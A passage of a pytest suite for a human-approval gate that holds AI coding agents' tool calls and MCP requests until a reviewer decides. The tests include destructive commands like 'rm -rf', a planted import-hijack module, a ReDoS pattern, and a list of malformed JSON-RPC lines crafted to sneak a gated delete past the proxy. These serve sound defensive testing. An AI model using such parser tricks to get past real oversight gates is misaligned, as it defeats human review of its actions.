    return text.replace("CMD", json.dumps(shell)[1:-1])


class Hooked(hitl.Hook):
    """A hook that only notes its alarm, to be asked in this process."""

    def alarm(self):
        self.alarm_after = self.seconds


@pytest.fixture
def ask_hook(tmp_path):
    """A hook's answer to one call -> what it prints, exit status, stderr."""
    (tmp_path / "rules.toml").write_text(SHELL)

    def ask(call, deadline=None, config="rules.toml"):
        return Hooked(str(tmp_path / config), deadline).reply(call.encode)
    return ask


def check_refusal(dialect, out, status, *, decided=False) -> str:
    """The words of a refusal in the form its agent takes for one."""
    _, _, rejected, printed = HOOKS[dialect]
    out = json.loads(out) if isinstance(out, str) and out else out
    if not (decided or printed):
        assert (out or None, status) == (None, 2)
        return ""
    assert status == 0
    why = max(json.dumps(out).split('"'), key=len)
    assert out == json.loads(json.dumps(rejected).replace(WHY, why))
    return why


@pytest.mark.parametrize("dialect", HOOKS)
def test_hook_dialects(dialect, desk, ask_hook, monkeypatch):
    """Each agent's own answer for approve, reject and unmatched; `echo
    hitl-selftest` shows that the hook is at work. No server, no configuration,
    a fault: that dialect's refusal, which tells a model nothing that an
    operator could do."""
    monkeypatch.setenv("HITL_SERVER_URL", desk.url)
    assert ask_hook(hook_call(dialect, "ls -la")) == ({}, 0, "")
    out, status, _ = ask_hook(hook_call(dialect, "echo hitl-selftest"))
    assert check_refusal(dialect, out, status, decided=True).startswith(
        "the hook works: this call was refused as a test; but a command that no "
        "checkpoint names runs unasked. The call did not run.")
    assert desk.rows("SELECT * FROM pending_reviews") == []
    for decision, answer in zip(("approved", "rejected"), HOOKS[dialect][1:3],
                                strict=True):
        wait = in_background(ask_hook, hook_call(dialect, f"ls; rm -rf {decision}"))
        request, = desk.waiting()
        assert f"rm -rf {decision}" in json.dumps(request["arguments"])
        name = "claude" if dialect == "permission" else dialect.split()[0]
        folder = HOOKS[dialect][0].get("cwd", os.getcwd())
        assert request["agent"].startswith(f"{name} {folder} session ")
        desk.decide(request["request_id"], decision, reason="no")
        assert wait() == (answer, 0, "")
    monkeypatch.setenv("HITL_SERVER_URL", "http://127.0.0.1:9")
    for shell, config in (("rm x", "rules.toml"), ("rm x", "missing"),
                          ("rm \ud800", "rules.toml")):
        out, status, err = ask_hook(hook_call(dialect, shell), 0.1, config)
        check_refusal(dialect, out, status)
        assert err.startswith("hitl: refused: ") and "\n" not in err
        assert ("surrogate" in err) == ("ud800" in ascii(shell))
        for hint in ("python3", "hitl.py init", "serve", "HITL_", "("):
            assert hint not in f"{err} {out}"


@pytest.mark.parametrize("text", [
    "", "x", "[]", "{}", '{"hook_event_name": "Other"}', '{"a": 1, "a": 2}',
    '{"hook_event_name": "PreToolUse", "transcript_path": ""}',
    '{"hook_event_name": "BeforeTool", "tool_name": 3}', "[" * 5000,
    '{"hook_event_name": "PreToolUse", "transcript_path": "", "tool_name": '
    '"Bash", "tool_input": {"command": 1e400}}',
    '{"hook_event_name": "BeforeTool", "tool_name": "Bash", "tool_input": '
    '"{\\"command\\": \\"ls\\", \\"command\\": \\"rm x\\"}"}',
    '{"hook_event_name": "BeforeTool", "tool_name": "Bash", "toolName": "Read"}',
    '{"hook_event_name": "beforeShellExecution", "command": "rm x", '
    '"tool_name": "Read"}'])
def test_hook_refuses_nonsense(text, ask_hook):
    """Input that is not a call of a known agent, or can be read in two ways, is
    refused, with nothing on stdout."""
    out, status, err = ask_hook(text)
    assert (out, status) == (None, 2) and err.startswith("hitl: refused")


def test_hook_is_never_late(tmp_path):
    """A desk that hangs, a pattern that runs away inside `re`, an agent that
    never ends its input: refused by the deadline, in the agent's words. A
    warning about the environment is for a person."""
    (tmp_path / "rules.toml").write_text(SHELL)
    script = f"""if True:
        import sys, re
        sys.path.append({str(HERE)!r})
        import hitl
        class Slow(hitl.Hook):
            def answer(self, data):
                self.dialect = hitl.dialect_of(hitl.parse_json(data))
                re.search("(a+)+$", "a" * 60 + "b")
        Slow(None, 0.4).run()"""
    with (socket.create_server(("127.0.0.1", 0)) as hangs,
          start(*HITL, "hook", "--deadline", "0.4") as silent):
        slow = in_background(command, argv=(sys.executable, "-c", script),
                             stdin=hook_call("claude", "ls"))
        began = time.monotonic()
        done = command(
            "hook", "--config", "rules.toml", "--deadline", "0.4", folder=tmp_path,
            stdin=hook_call("cline", "rm x"), HITL_REVIEWER_TOKEN="x" * 20,
            HITL_SERVER_URL=f"http://127.0.0.1:{hangs.getsockname()[1]}")
        assert time.monotonic() - began < hitl.UNREACHABLE_SECONDS - 1
        check_refusal("cline", done.stdout, done.returncode)
        assert done.stderr.count("HITL_REVIEWER_TOKEN") == 1
        done = slow()
        assert "no answer within 0.4 s" in check_refusal(
            "claude", done.stdout, done.returncode, decided=True)
        assert silent.stdout.read() == "" and silent.wait() == 2
        assert "no answer within 0.4 s" in silent.stderr.read()


def test_hook_knows_how_long_its_agent_waits():
    """A deadline beyond what the agent keeps is cut; without one, five
    seconds are left."""
    for dialect, default, longest in (
            ("claude", 595, 86_395), ("codex", 595, 86_395),
            ("gemini", 55, 86_395), ("copilot", 25, 86_395),
            ("cline", 115, 115)):
        for given, seconds in ((None, default), (9, 9), (1e9, longest)):
            hook = Hooked("missing", given)
            hook.reply(hook_call(dialect, "ls").encode)
            assert hook.alarm_after == seconds, (dialect, given)


def test_hook_deadline_and_repeat(desk, ask_hook, monkeypatch):
    """The hook answers before its deadline; the request still waits, and
    exactly one repeat of the call, in the same session, claims it. Nobody is
    asked again about a call that was rejected."""
    monkeypatch.setenv("HITL_SERVER_URL", desk.url)

    def ask(seconds=30, **more):
        out, status, _ = ask_hook(hook_call("claude", "rm x", **more), seconds)
        assert status == 0
        return [out["hookSpecificOutput"][f"permissionDecision{part}"]
                for part in ("", "Reason")]
    decision, why = ask(0.3)
    assert decision == "deny" and "still waits" in why
    assert "Repeat exactly this call later" in why
    request, = desk.waiting()
    assert request["agent"].startswith("claude /w session ")
    assert request["deadline"] > hitl.instant(time.time() + 86_000)
    for wait in [in_background(ask, 0.3, **more) for more in (
            {"tool_use_id": "toolu_2"},                 # it attaches
            {"session_id": "5fde"}, {"cwd": "/other"})]:    # ask for themselves
        assert wait()[0] == "deny"
    others = {row["request_id"] for row in desk.waiting(3)} - {
        request["request_id"]}
    assert len(others) == 2 == len(desk.waiting(3)) - 1
    waits = [in_background(ask) for _ in range(3)]
    waiters, name = desk.server.waiters, request["request_id"]
    assert until(lambda: len(waiters.get(name, ())) == 3)
    desk.decide(name)                                   # claimed once
    again, = {row["request_id"] for row in desk.waiting(3)} - others
    desk.decide(again, "rejected", reason="no")         # asked by the other two
    assert sorted(wait()[0] for wait in waits) == ["allow", "deny", "deny"]
    for _ in range(3):                                  # a person is asked once
        decision, why = ask()
        assert decision == "deny" and "rejected by ana" in why
    assert len(desk.waiting(2)) == 2
    assert "within 0.3 s" in ask(tool_name="soon")[1]   # as the checkpoint says
    assert desk.waiting(3)[0]["deadline"] < hitl.instant(time.time() + 70)


def test_nothing_beside_the_file_is_read(tmp_path):
    """No command runs a module planted beside hitl.py, in the working directory,
    in PYTHONPATH or in the user's site, nor bytecode beside hitl.py; hook, mcp
    and run read the rules beside hitl.py, never those in the agent's folder."""
    planted = b"import os; os.write(1, b'PLANTED'); os._exit(0)\n"
    site = f"home/.local/lib/python{sys.version_info[0]}." \
        f"{sys.version_info[1]}/site-packages"
    names = set(re.findall(r"^ *(?:import|from) (\w+)", FILE.read_text(),
                           re.M)) - {"__future__", "sys", "os"}
    assert {"json", "tomllib", "asyncio", "faulthandler", "urllib"} < names
    for folder in ("tool", "work", "path", site):
        (tmp_path / folder).mkdir(parents=True)
        for name in names | {"usercustomize"}:
            (tmp_path / folder / f"{name}.py").write_bytes(planted)
    tool, work = tmp_path / "tool", tmp_path / "work"
    shutil.copy(FILE, tool)
    (tool / "checkpoints.toml").write_text(SHELL)
    (work / "checkpoints.toml").write_text("nonsense")
    environ = {"HOME": str(tmp_path / "home"), "PYTHONNOUSERSITE": "1",
               "XDG_CACHE_HOME": "", "PYTHONPATH": str(tmp_path / "path")}
    script = (sys.executable, str(tool / "hitl.py"))

    def run(*words, argv=script, **more):
        return in_background(command, *words, argv=argv, folder=work,
                             stdin=hook_call("claude", "ls"), **environ | more)
    line = json.loads(run("hook", "--snippet", "claude")().stdout)
    py_compile.compile(
        str(work / "json.py"), cache_from_source(str(tool / "hitl.py")),
        invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    waits = [run(argv=("/bin/sh", "-c", line["hooks"]["PreToolUse"][0]["hooks"][
                 0]["command"]), PYTHONNOUSERSITE="", PYTHONPATH=""),
             run("hook"), run("mcp", "--", "true"),
             run("run", "--timeout", "0.1", "--", "true")]
    done = [wait() for wait in waits]
    assert [it.stdout for it in done] == ["{}\n", "{}\n", "", ""], done
    folder = tmp_path / "home/.cache/hitl"
    assert folder.stat().st_mode & 0o777 == 0o700
    kept, = folder.rglob("hitl.*.pyc")
    shutil.copy(cache_from_source(str(tool / "hitl.py")), kept)
    folder.chmod(0o755)                 # others could have put it there
    waits = [run("--version"), run("hook", "--snippet", "claude")]
    version, snippet = (wait() for wait in waits)
    assert version.stdout.startswith("hitl.py")
    assert "is not this user's alone" in snippet.stderr and not snippet.stdout


@contextlib.contextmanager
def waiting(desk, folder, *words, call=None, argv=HITL, **environ):
    """`hook` or `run`, with these words, that waits for a decision -> the
    process and its request; it is killed at the end."""
    (folder / "rules.toml").write_text(SHELL)
    process = start(*argv, words[0], "--config", "rules.toml", *words[1:],
                    folder=folder, HITL_SERVER_URL=desk.url, **environ)
    with process:
        try:
            if call:
                process.stdin.write(call)
                process.stdin.close()
                process.stdin = None
            request, = desk.waiting()
            assert until(lambda: attended(desk, request["request_id"]), 20)
            yield process, request
        finally:
            process.kill()


@pytest.mark.parametrize("gone", ["hook", "shell", "agent"])
def test_hook_that_is_left_alone(gone, desk, tmp_path):
    """A hook ended by SIGTERM refuses, in words that a model may read, and
    withdraws. One whose agent reads no more, or whose shell is gone, withdraws
    too, and claims nothing that is approved late."""
    argv = HITL
    if gone != "hook":
        argv = ("/bin/sh", "-c", '"$@" 2>/dev/null; :', "sh", *HITL)
    with waiting(desk, tmp_path, "hook", call=hook_call("claude", "rm x"),
                 argv=argv, HITL_REVIEWER_TOKEN="x" * 20) as (process, request):
        if gone == "hook":
            process.terminate()
            out, err = process.communicate(timeout=20)
            check_refusal("claude", out, process.returncode)
            assert err.startswith("hitl: refused: the hook was ended by SIGTERM. ")
            assert err.count("\n") == 1
        elif gone == "agent":
            process.stdout.close()
            process.wait(30)
        else:
            process.kill()
            process.wait(20)
            desk.decide(request["request_id"])
            process.stdout.read()               # until the hook has ended
        state = desk.state(request["request_id"])
    assert (state["status"], state["outcome"]) == (
        "approved" if gone == "shell" else "withdrawn", None)


@pytest.mark.skipif(os.name != "posix", reason="redirections of a shell")
@pytest.mark.parametrize("shell, out, status", [
    ('"$@" >&-', "", 2), ('"$@" > /dev/full', "", 2), ('"$@" <&-', "", 2),
    ('"$@" 2>&-', "{}\n", 0)])
def test_hook_with_closed_streams(shell, out, status, tmp_path):
    """The answer is whole on stdout, or the exit status is 2."""
    (tmp_path / "rules.toml").write_text(SHELL)
    done = command("hook", "--config", "rules.toml", folder=tmp_path,
                   stdin=hook_call("claude", "ls"),
                   argv=("/bin/sh", "-c", shell, "sh", *HITL))
    assert (done.stdout, done.returncode) == (out, status), done


def decide_changed(desk, **changed):
    """Approve what waits, with other arguments."""
    request, = desk.waiting()
    return desk.decide(request["request_id"], digest=request["digest"],
                       arguments=request["arguments"] | changed).status


def test_hook_passes_changes_on(make_desk, make_rules, ask_hook, monkeypatch):
    """What a reviewer changed goes to Claude, with who changed what; other
    agents could not take it, so it is not offered there."""
    desk = make_desk(rules=make_rules(SHELL))
    monkeypatch.setenv("HITL_SERVER_URL", desk.url)
    move = {"tool_name": "mcp__fs__move_file", "tool_input": {"path": "a"}}
    wait = in_background(ask_hook, hook_call("claude", "", **move))
    assert decide_changed(desk, path="b") == 200
    answer = wait()[0]["hookSpecificOutput"]
    assert answer["updatedInput"] == {"path": "b"}
    assert answer["permissionDecision"] == "allow"
    assert "changed by ana" in answer["permissionDecisionReason"]
    wait = in_background(ask_hook, hook_call("codex", "", **move))
    assert decide_changed(desk, path="b") == 409
    desk.decide(desk.waiting()[0]["request_id"])
    assert wait() == ({}, 0, "")


def test_hook_snippets(tmp_path, monkeypatch):
    """What --snippet prints is the file to install, with the desk's URL where
    the agent shows it; its line is the same for all but Cline, which ignores
    exit statuses, and blocks when nobody can be asked."""
    monkeypatch.setenv("HITL_SERVER_URL", "http://127.0.0.1:9")
    (tmp_path / "rules.toml").write_text(SHELL)
    lines = {}
    for agent in hitl.SNIPPETS:
        text = hitl.snippet(agent, str(tmp_path / "rules.toml"))
        assert ("127.0.0.1:9" in text) == (agent in ("claude", "codex", "gemini"))
        lines[agent] = text
        if agent != "cline":
            lines[agent], = {json.loads(string) for string in re.findall(
                r'"(?:[^"\\]|\\.)*"', text) if " hook " in string}
            assert lines[agent] == lines["claude"]
    assert lines["claude"].endswith(" --deadline 86000 || exit 2")
    runs = [(agent, in_background(
        command, argv=("/bin/sh", "-c", lines[agent].replace(*change)),
        stdin=hook_call(agent, "rm x")))
        for agent in ("claude", "cline")
        for change in (("rules.toml", "missing"), ("SourceFileLoader", "Nothing"))]
    for agent, wait in runs:
        done = wait()
        assert done.returncode == 2 or '"cancel":' in done.stdout, done
        check_refusal(agent, done.stdout, done.returncode)
    for rules, words in ((RULES, "a command that no checkpoint names runs unasked"),
                         ("[gate]\n", "the hook refuses every call"),
                         (hitl.coding_rules(tmp_path, tmp_path), "")):
        (tmp_path / "rules.toml").write_text(rules)
        done = command("hook", "--snippet", "codex", "--config",
                       str(tmp_path / "rules.toml"))
        assert ".codex/hooks.json (trust it" in done.stderr
        assert words in done.stderr and bool(words) == ("; " in done.stderr)
        assert json.loads(done.stdout)["hooks"]["PreToolUse"]


# ---- the MCP proxy ----

SERVER = '''
import json, subprocess, sys
for line in sys.stdin:
    m = json.loads(line)
    p = m.get("params") or {}
    name = p.get("name", m["method"])
    if name == "die":
        sys.exit(7)
    if name == "delete_hang":
        subprocess.Popen(["sleep", "50"])       # which holds stdout
        print(json.dumps({"jsonrpc": "2.0", "method": "saw/hang"}), flush=True)
        continue
    said = {"id": m.get("id"), "result": {
        "tools/list": {"tools": [{"name": "read_file"}, {
            "name": "delete_file", "annotations": {"destructiveHint": True}}]},
        "move_file": {"content": [{"type": "text", "text": line}]},
        "delete_locked": {"isError": True, "content": "it is locked"},
        }.get(name, {"echo": line})}
    if name == "move_ask" and "requestState" not in p:
        said["result"] = {"resultType": "input_required", "requestState": "S1"}
    if name in ("delete_gone", "move_gone"):
        said = {"id": m["id"], "error": {"code": -32602, "message": "it is gone"}}
    if "id" not in m:
        said = {"method": "saw/cancel", "params": p}
    print(json.dumps({"jsonrpc": "2.0", **said}), flush=True)
'''


class Mcp(Running):
    """A client on the proxy's pipes; stderr is read with stdout."""

    def __init__(self, desk, folder):
        (folder / "rules.toml").write_text(SHELL)
        (folder / "server.py").write_text(SERVER)
        super().__init__(
            *HITL, "mcp", "--config", "rules.toml", "--name", "fs", "--",
            sys.executable, "server.py", folder=folder, stdin=subprocess.PIPE,
            HITL_SERVER_URL=desk.url)
        self.desk = desk

    def send(self, message):
        line = message
        if not isinstance(message, bytes):
            line = json.dumps(message).encode()
        self.process.stdin.write(line + b"\n")
        self.process.stdin.flush()

    def call(self, number, name, arguments, **params):
        self.send({"jsonrpc": "2.0", "id": number, "method": "tools/call",
                   "params": {"name": name, "arguments": arguments} | params})

    @property
    def messages(self) -> list[dict]:
        whole, _, _ = self.data.rpartition(b"\n")
        return [json.loads(line) for line in whole.splitlines()
                if line.startswith(b"{")]

    def answer(self, number):
        """The message that answers this id, once it is there."""
        found = until(lambda: [
            message for message in self.messages
            if message.get("id") == number and "method" not in message])
        assert found, self.text
        return found[0]

    def ended(self, request_id, **fields):
        """Whether a request comes to have these fields."""
        return until(lambda: fields.items() <= self.desk.state(
            request_id).items())

    def close(self) -> int:
        """End the client's side -> the exit status."""
        with contextlib.suppress(OSError):
            self.process.stdin.close()
        status = self.process.wait(20)
        self.reader.join(5)
        assert not self.reader.is_alive()       # the pipe's writers are gone
        return status


@pytest.fixture
def mcp(make_desk, make_rules, tmp_path):
    it = Mcp(make_desk(rules=make_rules(SHELL)), tmp_path)
    yield it
    it.close()


def test_proxy_is_transparent(mcp):
    """All but a gated call passes as the very bytes, both ways; stderr says once
    which tools wait."""
    odd = (b'{"id": 1,  "jsonrpc":"2.0", "method": "x/y", "params": {"a": '
           b'1.50, "\\u00e9": "\xc3\xa9"}}')
    mcp.send(odd)
    assert mcp.answer(1)["result"]["echo"] == (odd + b"\n").decode()
    for number in (2, 3):
        mcp.send({"jsonrpc": "2.0", "id": number, "method": "tools/list"})
        mcp.answer(number)
    assert mcp.close() == 0
    assert mcp.text.count("fs: wait for a person: delete_file\n") == 1
    assert mcp.text.count("fs: run unasked: read_file\n") == 1


def test_proxy_gates(mcp):
    """Calls wait side by side; an approved one is built again from the members
    that were read, a rejected one is a tool's result with the reason, in the
    modern form where that was asked; the outcome is the server's own answer.
    A cancelled one is withdrawn, never forwarded, never answered."""
    desk = mcp.desk
    mcp.send({"jsonrpc": "2.0", "id": 0, "method": "tools/list"})
    mcp.answer(0)
    sent = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {
        "name": "delete_file", "arguments": {"path": "a"},
        "_meta": {"progressToken": 7}}}
    mcp.send(sent | {"extra": 1, "params": sent["params"] | {"extra": 2}})
    mcp.call("two", "delete_file", {"path": "b"})
    mcp.call(3, "delete_file", {"path": "c"}, _meta={
        "io.modelcontextprotocol/protocolVersion": "2026-07-28"})
    mcp.call(4, "delete_locked", {"path": "d"})
    mcp.call(5, "read_file", {})
    mcp.call(6, "delete_file", {"path": "e"})
    mcp.call(7, "delete_gone", {"path": "f"})
    mcp.answer(5)                                   # meanwhile
    ids = {r["arguments"]["path"]: r["request_id"] for r in desk.waiting(6)}
    mcp.call(6, "delete_file", {"path": "g"})       # an id that is in use
    assert mcp.answer(6)["error"]["message"] == "hitl: refused: this id is in use"
    whole = desk.reviewer().exchange("GET", f"/review/{ids['a']}", seconds=5)
    assert whole.body["tool"] == "mcp__fs__delete_file"
    assert "destructiveHint" in json.dumps(whole.body["agent_context"])
    for number in (6, 5):                           # 5 was sent
        mcp.send({"jsonrpc": "2.0", "method": "notifications/cancelled",
                  "params": {"requestId": number}})
    assert mcp.ended(ids["e"], status="withdrawn")
    for path, decision in (("a", "approved"), ("b", "rejected"),
                           ("c", "rejected"), ("d", "approved"), ("f", "approved")):
        desk.decide(ids[path], decision, reason="no")
    assert json.loads(mcp.answer(1)["result"]["echo"]) == sent
    refusal = {"content": [{"type": "text", "text": WHY}], "isError": True}
    assert mcp.answer("two")["result"] == refusal
    assert mcp.answer(3)["result"] == refusal | {"resultType": "complete"}
    assert mcp.answer(4)["result"]["isError"]
    assert mcp.answer(7)["error"]["message"] == "it is gone"
    for path, outcome in (("a", "executed"), ("d", "failed"), ("f", "failed")):
        assert mcp.ended(ids[path], outcome=outcome)
    notes = [message for message in mcp.messages if "method" in message]
    assert [note["params"]["requestId"] for note in notes
            if note["method"] == "saw/cancel"] == [5]
    steps = [note["params"] for note in notes if "progress" in note["method"]]
    assert {step["progressToken"] for step in steps} == {7}
    assert all(0 < step["progress"] < 0.5 for step in steps)
    assert [message.get("id") for message in mcp.messages].count(6) == 1


def test_proxy_request_state(mcp):
    """The repeat of an approved call with its requestState passes once, with
    what the reviewer approved, and only with the state the server gave and
    the same arguments. What was changed the model is told first."""
    mcp.call(0, "move_file", {"path": "a"})
    assert decide_changed(mcp.desk, path="b") == 200
    first, second = (item["text"] for item in
                     mcp.answer(0)["result"]["content"])
    assert "changed by ana" in first
    assert json.loads(second)["params"]["arguments"] == {"path": "b"}
    mcp.call(10, "move_gone", {"path": "a"})
    decide_changed(mcp.desk, path="b")
    assert re.fullmatch("changed by ana: .*: it is gone",
                        mcp.answer(10)["error"]["message"])
    mcp.call(1, "move_ask", {"path": "a"})
    decide_changed(mcp.desk, path="b")
    assert mcp.answer(1)["result"]["requestState"] == "S1"
    mcp.call(2, "move_ask", {"path": "b"}, requestState="S1")
    mcp.call(3, "move_ask", {"path": "a"}, requestState="S2")
    assert len(mcp.desk.waiting(2)) == 2            # both wait
    mcp.call(4, "move_ask", {"path": "a"}, requestState="S1")
    passed = json.loads(mcp.answer(4)["result"]["echo"])["params"]
    assert passed["arguments"] == {"path": "b"}
    mcp.call(5, "move_ask", {"path": "a"}, requestState="S1")
    assert len(mcp.desk.waiting(3)) == 3            # once only


HELD = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {
    "name": "delete_file", "arguments": {}}}


def renamed(old, new):
    return {new if key == old else key: value for key, value in HELD.items()}


WAYS_ROUND = (                      # a line -> the id it is refused under
    ([HELD], 1), ([[HELD]], None), (renamed("id", "x"), None),
    (HELD | {"id": None}, None), (HELD | {"id": [1]}, None),
    (renamed("method", "METHOD"), 1), (renamed("method", "method\0"), 1),
    (renamed("params", "Params") | {"params": {"name": "read_file"}}, 1),
    (HELD | {"method": "Tools/Call"}, 1),
    (HELD | {"params": {"name": "read_file", "Name": "delete_file"}}, 1),
    (HELD | {"params": {"name": "read_file", "arguments": {
        "x": [{"path": "a", "Path": "b"}]}}}, 1),
    (HELD | {"params": {"name": "read_file", "arguments": {"x": "\ud800"}}}, 1),
    *((HELD | {"params": {"name": "read_file", "arguments": value}}, 1)
      for value in ([], "", 0, False)),
    (json.dumps(HELD).replace("{}", '{"x":' * 33 + "1" + "}" * 33).encode(), 1),
    (b'{"method": "x", "method": "tools/call", "id": 2, "params": '
     b'{"name": "delete_file"}}', 2),
    (b'{"method": "x", "params":\r' + json.dumps(HELD).encode() + b"\r}", None),
    (json.dumps(HELD).replace("call", "\\x63all").encode(), None),
    (json.dumps(HELD).encode("utf-16-le"), None),
    (b"\xff" + json.dumps(HELD).encode(), None))


def test_proxy_ways_round(mcp):
    """A line that two readers could read as different messages is refused, under
    its id where that can be read, and never reaches the server."""
    mcp.send(b"")                       # a blank line is nothing
    for number, (line, key) in enumerate(WAYS_ROUND, 100):
        mcp.send(line)
        mcp.send(HELD | {"id": number, "params": {"name": "read_file"}})
        mcp.answer(number)
        refused = mcp.messages[-2]
        assert refused["id"] == key, (line, refused)
        assert refused["error"]["code"] == -32600
    assert len(mcp.messages) == 2 * len(WAYS_ROUND)
    assert "delete_file" not in mcp.text
    assert mcp.desk.rows("SELECT * FROM pending_reviews") == []


def test_proxy_ids(mcp):
    """A request under the id of one that is not answered yet, gated or not, is
    refused: the reply to one is never taken for the reply to the other. Once it
    is answered, its id is free."""
    for count in (1, 2):
        mcp.call(1, "read_file", {})
        assert until(lambda: len(mcp.messages) == count), mcp.text
        assert "result" in mcp.messages[-1]
    mcp.send({"jsonrpc": "2.0", "id": 2, "method": "delete_hang"})  # no answer
    mcp.call(2, "delete_file", {"path": "a"})
    mcp.call(3, "delete_hang", {"path": "b"})
    mcp.desk.decide(mcp.desk.waiting()[0]["request_id"])
    assert until(lambda: mcp.text.count("saw/hang") == 2)       # both were sent
    mcp.send({"jsonrpc": "2.0", "id": 3, "method": "ping"})
    for number in (2, 3):
        assert mcp.answer(number)["error"]["message"] == (
            "hitl: refused: this id is in use")
    assert [row[0] for row in mcp.desk.rows(
        "SELECT arguments FROM pending_reviews")] == ['{"path":"b"}']


@pytest.mark.skipif(os.name != "posix", reason="redirections of a shell")
@pytest.mark.parametrize("shell", ['"$@" 2>&-', '"$@" 2>/dev/full'])
def test_proxy_without_stderr(shell, tmp_path):
    """If stderr is closed or full, stdout still has the messages and nothing else,
    and the server runs on."""
    (tmp_path / "rules.toml").write_text(SHELL)
    (tmp_path / "server.py").write_text(SERVER)
    done = command(
        "mcp", "--config", "rules.toml", "--", sys.executable, "server.py",
        folder=tmp_path, argv=("/bin/sh", "-c", shell, "sh", *HITL),
        stdin='{"id": 1, "method": "tools/list"}\n{"id": 2, "method": "ping"}\n')
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert [line["id"] for line in lines] == [1, 2], done
    assert done.returncode in (0, 120)      # 120 is Python's: it cannot flush


@pytest.mark.parametrize("end", ["die", "SIGTERM"])
def test_proxy_ends(end, mcp):
    """A server that dies ends the proxy with its exit status, although what it
    started holds its pipes. SIGTERM ends the server and what it started. What
    is held is withdrawn; what was handed over is not said to have failed."""
    mcp.call(1, "delete_file", {"path": "a"})
    request, = mcp.desk.waiting()
    mcp.call(2, "delete_hang", {})
    handed_over = mcp.desk.waiting(2)[1]["request_id"]
    mcp.desk.decide(handed_over)
    assert mcp.said(".*saw/hang.*")
    if end == "die":
        mcp.call(3, "die", {})
        assert mcp.close() == 7
    else:
        mcp.process.terminate()
        assert mcp.close() == 128 + signal.SIGTERM
    assert mcp.ended(request["request_id"], status="withdrawn")
    assert mcp.ended(handed_over, outcome="running")


# ---- run ----

def test_run(desk, tmp_path):
    """`run` asks, then executes exactly the approved argv without a shell,
    and passes stdin, stdout, stderr and the exit status through; the headline
    is the command as a shell would quote it. The reviewer's token stays out
    of its environment."""
    script = "import os, sys; print(sys.argv[1], sys.stdin.read(), " \
        "os.environ.get('HITL_REVIEWER_TOKEN')); " \
        "print('err', file=sys.stderr); sys.exit(3)"
    argv = [sys.executable, "-c", script, "$(x); *"]
    with waiting(desk, tmp_path, "run", "--", *argv,
                 HITL_REVIEWER_TOKEN="x" * 20) as (process, request):
        assert request["arguments"] == {
            "argv": argv, "cwd": str(tmp_path), "executable": sys.executable}
        assert shlex.join(argv) in request["action_description"]
        desk.decide(request["request_id"])
        out, err = process.communicate("in", timeout=20)
    assert (out, process.returncode) == ("$(x); * in None\n", 3)
    assert err.endswith("err\n")
    assert desk.state(request["request_id"])["outcome"] == "executed"


def test_run_refuses(desk, tmp_path):
    """Its own failures are 125, and each says what it is: rejected, no such
    command, one that cannot be started, no decision in time, no server, an
    option that it does not know."""
    (tmp_path / "bad").write_bytes(b"\0")
    (tmp_path / "bad").chmod(0o755)
    for name, decision, said in (
            ("touch", "rejected", "rejected by ana: no"),
            ("./bad", "approved", "./bad: Exec format error")):
        with waiting(desk, tmp_path, "run", "--", name, "ran") as (
                process, request):
            desk.decide(request["request_id"], decision, reason="no")
            _, err = process.communicate(timeout=20)
        assert process.returncode == 125
        assert f"hitl: error: {said}\n" in err
    late = ["--timeout", "0.2", "--", "touch", "ran"]
    for said, wait in [(said, in_background(
            command, "run", "--config", "rules.toml", *words, folder=tmp_path,
            HITL_SERVER_URL=url)) for said, words, url in (
                ("no such command: nothing", ["nothing"], desk.url),
                ("no command", [], desk.url),
                ("unrecognized arguments: --none", ["--none"], desk.url),
                ('nobody decided "run touch ran" within 0.2 s; nothing ran',
                 late, desk.url),
                (f"no answer from {SILENT}: ", late, SILENT))]:
        done = wait()
        assert done.returncode == 125, done
        assert f"hitl: error: {said}" in done.stderr
        assert "python3" not in done.stderr         # a model may read it
    assert not (tmp_path / "ran").exists()


@pytest.mark.skipif(os.name != "posix", reason="signals")
def test_run_signals(desk, tmp_path):
    """Signals reach the command, but for a terminal's own, which it sends to
    both; a command that ends by a signal is 128 + it. While it waits, SIGTERM
    withdraws the request."""
    script = """if True:
        import signal, sys, time
        got = []
        for number in (signal.SIGINT, signal.SIGUSR1):
            signal.signal(number, lambda *_: got.append(1))
        signal.signal(signal.SIGTERM, lambda *_: sys.exit(len(got)))
        print("up", flush=True)
        while True:
            time.sleep(1)"""
    ours, terminal = pty.openpty()
    for sent, stdin, status in (
            ("SIGINT SIGUSR1 SIGTERM", subprocess.PIPE, 2),
            ("SIGINT SIGUSR1 SIGTERM", terminal, 1),
            ("SIGHUP", subprocess.PIPE, 128 + signal.SIGHUP)):
        with waiting(desk, tmp_path, "run", "--", sys.executable, "-c",
                     script, stdin=stdin) as (process, request):
            desk.decide(request["request_id"])
            assert process.stdout.readline() == "up\n"
            for name in sent.split():
                process.send_signal(getattr(signal, name))
            assert process.wait(20) == status, sent
    os.close(ours)
    os.close(terminal)
    with waiting(desk, tmp_path, "run", "--", "true") as (process, request):
        process.terminate()
        assert process.wait(20) == 128 + signal.SIGTERM
    assert desk.state(request["request_id"])["status"] == "withdrawn"


@pytest.mark.skipif(os.name != "posix", reason="signals")
def test_run_under_nohup(desk, tmp_path):
    """Under nohup, SIGHUP ends neither the wait nor the command."""
    script = "import time; print('up', flush=True); time.sleep(1); print('done')"
    with waiting(desk, tmp_path, "run", "--", sys.executable, "-c", script,
                 argv=("nohup", *HITL)) as (process, request):
        process.send_signal(signal.SIGHUP)
        time.sleep(0.2)
        desk.decide(request["request_id"])
        assert process.stdout.readline() == "up\n"
        process.send_signal(signal.SIGHUP)
        assert process.stdout.read() == "done\n"
        assert process.wait(20) == 0


# ================================== Pages ==================================
# The page as a parser sees it (tags, cards, marks), then as Chromium does.

class Page(HTMLParser):
    """A page, read: `tags` in order with their attributes' names, `cards`
    by request_id with their text and buttons, `marks`, `words` of other
    scripts, `exact` calls."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags, self.open, self.text, self.source = [], [], "", source
        self.cards, self.card = {}, {"text": ""}
        self.feed(source)
        self.close()
        assert not self.open, "every tag is closed"
        self.marks, self.words, self.exact = (
            [html.unescape(re.sub("<[^>]*>", "", inside)) for inside in re.findall(
                f"<{start}>(.*?)</{start.split()[0]}>", source, re.DOTALL)]
            for start in ("mark", "bdi", 'section class="exact"'))

    def handle_starttag(self, tag, pairs):
        given = dict(pairs)
        self.tags.append((tag, *(name for name, _ in pairs)))
        if tag not in ("meta", "link", "input"):
            self.open.append(tag)
